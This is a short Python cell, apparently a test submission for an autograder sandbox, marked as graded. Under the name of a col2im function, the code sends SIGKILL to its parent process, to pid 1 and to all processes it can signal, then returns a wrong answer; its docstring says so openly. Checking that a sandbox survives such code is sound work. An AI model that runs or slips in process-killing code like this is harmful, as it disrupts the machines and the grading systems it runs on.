"""col2im sends SIGKILL to every process it may signal (kill -1), to its parent and to pid 1, then
returns a wrong answer: only its own sandbox could be hurt; the grader and other sandboxes carry on,
and the wrong col2im loses its points as usual.

status: graded
score: 7
"""
# %% task1_3_col2im
import os, signal

def col2im(col, x_shape, filter_h, filter_w, stride=1, pad=0):
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return col
